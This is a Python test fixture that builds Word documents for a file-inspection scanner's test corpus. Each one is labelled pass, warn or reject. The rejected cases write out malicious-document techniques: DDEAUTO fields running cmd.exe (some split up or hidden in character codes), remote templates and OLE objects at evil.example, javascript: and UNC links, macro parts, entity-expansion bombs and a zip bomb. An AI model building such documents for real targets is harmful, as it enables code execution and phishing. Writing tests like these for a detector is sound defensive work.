"""Word documents for the corpus: written by python-docx, their parts changed by hand."""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable, Mapping
from functools import cache
from pathlib import Path

from docx import Document
from docx.shared import Cm
from msoffcrypto.format.ooxml import OOXMLFile
from PIL import Image

from backoffice.demo.documents import docx as written
from tests.corpus.case import Case
from tests.corpus.markdowns import TEXT
from tests.inspection.test_antivirus import EICAR

MAIN, RELS, TYPES = "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"


@cache
def plain() -> bytes:
    """A manual in Russian with headings and lists."""
    return written(TEXT, author="Анна Орлова")


def _illustrated() -> bytes:
    document, picture = Document(), io.BytesIO()
    Image.new("RGB", (300, 200), "navy").save(picture, "PNG")
    document.add_heading("Схема", 1)
    document.add_picture(picture, width=Cm(5))
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text, table.cell(1, 1).text = "Столбец", "Значение"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def repacked(
    change: Mapping[str, Callable[[bytes], bytes]], *, extra: Mapping[str, bytes] | None = None, without: str = ""
) -> bytes:
    """The plain document with some parts changed, added or left out."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name != without:
                new.writestr(name, change.get(name, bytes)(old.read(name)))
        for name, data in (extra or {}).items():
            new.writestr(name, data)
    return out.getvalue()


def _before(end: bytes, what: str) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(end, what.encode() + end, 1)


def _relation(kind: str, target: str, *, external: bool = True, family: str = _OFFICE) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    row = f'<Relationship Id="rId900" Type="{family}/{kind}" Target="{target}"{mode}/>'
    return repacked({RELS: _before(b"</Relationships>", row)})


def _fields(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return repacked({MAIN: _before(b"<w:sectPr", f"<w:p>{begin}{runs}{end}</w:p>")})


def _quoted(text: str) -> bytes:
    """A field whose code is spelled by another one, by character codes."""
    begin, end = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    codes = " ".join(str(ord(letter)) for letter in text)
    quote = f"{begin}<w:r><w:instrText> QUOTE {codes} </w:instrText></w:r>{end}"
    return repacked({MAIN: _before(b"<w:sectPr", f"<w:p>{begin}{quote}<w:r><w:instrText> x</w:instrText></w:r>{end}</w:p>")})


def _large_part() -> bytes:
    """Past the limit of one part, though it packs no better than ordinary text does."""
    block = b"".join(random.Random(row).randbytes(40).hex().encode() + bytes(32) * 60 for row in range(500))
    return b"<a>" + block.replace(b"\0", b" ") * 280 + b"</a>"


def _with_macros() -> bytes:
    kind = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    return repacked(
        {TYPES: _before(b"</Types>", kind)}, extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)}
    )


def _macro_type(data: bytes) -> bytes:
    return data.replace(b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                        b"application/vnd.ms-word.document.macroEnabled.main+xml")  # fmt: skip


def _laughs(data: bytes) -> bytes:
    doctype = '<!DOCTYPE x [<!ENTITY a "ха"><!ENTITY b "&a;&a;&a;&a;">]>'
    return data.replace(b"?>", b"?>" + doctype.encode(), 1)


def _closed() -> bytes:
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(plain())).encrypt("тайна", out)
    return out.getvalue()


def _flipped() -> bytes:
    data = bytearray(plain())
    at = data.index(b"word/document.xml") + 200
    data[at] ^= 0x5A
    return bytes(data)


def _utf16(data: bytes) -> bytes:
    return _laughs(data).decode().replace("UTF-8", "UTF-16").encode("utf-16")


def _case(name: str, data: Callable[[], bytes], verdict: str = "pass", *rules: str) -> Case:
    def build(path: Path) -> None:
        path.write_bytes(data())

    return Case(name, "instruction", build, verdict, rules)


_OLE, _PROGRAM = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(100)
_OUT, _DDE, _CARRIED = "docx.external", "docx.dde", "docx.embedded"

CASES = (
    _case("инструкция.docx", plain),
    _case("с-картинкой-и-таблицей.docx", _illustrated),
    _case("со-ссылкой.docx", lambda: _relation("hyperlink", "https://example.ru/%D0%BF%D1%83%D1%82%D1%8C")),
    _case("с-почтой.docx", lambda: _relation("hyperlink", "mailto:help@example.ru")),
    _case("с-полем-страницы.docx", lambda: _fields(" PAGE ", " \\* MERGEFORMAT ")),
    _case("без-сжатия.docx", lambda: _stored(plain())),
    # warns
    _case("картинка-с-сайта.docx", lambda: _relation("image", "https://tracker.example.com/p.png"), "warn", "docx.remote_image"),
    _case("картинка-полем.docx", lambda: _fields(" INCLUDEPICTURE ", '"http://tracker.example.com/p.png"'), "warn", "docx.remote_image"),
    _case("ссылка-на-диск.docx", lambda: _relation("hyperlink", "file:///C:\\Users\\anna\\plan.docx"), "warn", "docx.local_link"),
    _case("шаблон-на-диске.docx", lambda: _relation("attachedTemplate", "file:///C:\\Users\\anna\\Templates\\Отчёт.dotx"), "warn", "docx.local_link"),
    # hostile
    _case("макросы.docx", _with_macros, "reject", "docx.macros"),
    _case("макросы-в-типе.docx", lambda: repacked({TYPES: _macro_type}), "reject", "docx.macros"),
    _case("шаблон-с-сайта.docx", lambda: _relation("attachedTemplate", "http://evil.example/t.dotm"), "reject", _OUT),
    _case("шаблон-по-сети.docx", lambda: _relation("attachedTemplate", "\\\\evil\\share\\t.dotm"), "reject", _OUT),
    _case("объект-с-сайта.docx", lambda: _relation("oleObject", "http://evil.example/x.html"), "reject", _OUT),
    _case("рамка-с-сайта.docx", lambda: _relation("frame", "http://evil.example/"), "reject", _OUT),
    _case("ссылка-javascript.docx", lambda: _relation("hyperlink", "javascript:alert(1)"), "reject", _OUT),
    _case("ссылка-по-сети.docx", lambda: _relation("hyperlink", "\\\\evil\\share\\a.exe"), "reject", _OUT),
    _case("чужой-текст.docx", lambda: _fields(" INCLUDETEXT ", '"http://evil.example/a.docx"'), "reject", _OUT),
    _case("dde.docx", lambda: _fields(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), "reject", _DDE),
    _case("dde-по-кускам.docx", lambda: _fields(" D", "DE", "AUTO", " cmd calc"), "reject", _DDE),
    _case("dde-простое.docx", lambda: repacked({MAIN: _before(b"<w:sectPr", '<w:p><w:fldSimple w:instr=" DDE cmd calc"/></w:p>')}), "reject", _DDE),
    _case("dde-кодами-букв.docx", lambda: _quoted("DDEAUTO cmd calc"), "reject", _DDE),
    _case("поле-кодами-букв.docx", lambda: _quoted("PAGE")),
    _case("объект.docx", lambda: repacked({}, extra={"word/embeddings/oleObject1.bin": _OLE}), "reject", _CARRIED),
    _case("программа.docx", lambda: repacked({}, extra={"word/media/image1.png": _PROGRAM}), "reject", _CARRIED),
    _case("вставка-html.docx", lambda: _relation("aFChunk", "afchunk.htm", external=False), "reject", _CARRIED),
    _case("сущности.docx", lambda: repacked({MAIN: _laughs}), "reject", "docx.entity"),
    _case("сущности-utf16.docx", lambda: repacked({MAIN: _utf16}), "reject", "docx.entity"),
    _case("вирус.docx", lambda: repacked({}, extra={"word/media/image1.jpeg": EICAR}), "reject", "antivirus.virus"),
    _case("бомба.docx", lambda: repacked({}, extra={"word/media/a.xml": b"<a>" + b" " * 290_000_000 + b"</a>"}), "reject", "archive.bomb"),
    _case("огромная-часть.docx", lambda: repacked({}, extra={"word/media/a.xml": _large_part()}), "reject", "docx.bomb"),
    _case("пароль.docx", _closed, "reject", "docx.encrypted"),
    # damaged
    _case("обрезан.docx", lambda: plain()[:-500], "reject", "format.truncated"),
    _case("сбит.docx", _flipped, "reject", "archive.damaged"),
    _case("сбит-xml.docx", lambda: repacked({MAIN: lambda data: data[:-40]}), "reject", "format.damaged"),
    _case("без-основной-части.docx", lambda: repacked({}, without=MAIN), "reject", "format.mismatch"),
    _case("просто-zip.docx", lambda: _zip({"a.txt": b"text"}), "reject", "format.mismatch"),
    _case("хвост.docx", lambda: plain() + b"zzz", "warn", "format.trailing"),
    _case("программа-в-начале.docx", lambda: b"MZ" + bytes(200) + plain(), "reject", "format.mismatch"),
)  # fmt: skip


def _zip(members: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as new:
        for name, data in members.items():
            new.writestr(name, data)
    return out.getvalue()


def _stored(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as old:
        return _zip({name: old.read(name) for name in old.namelist()})
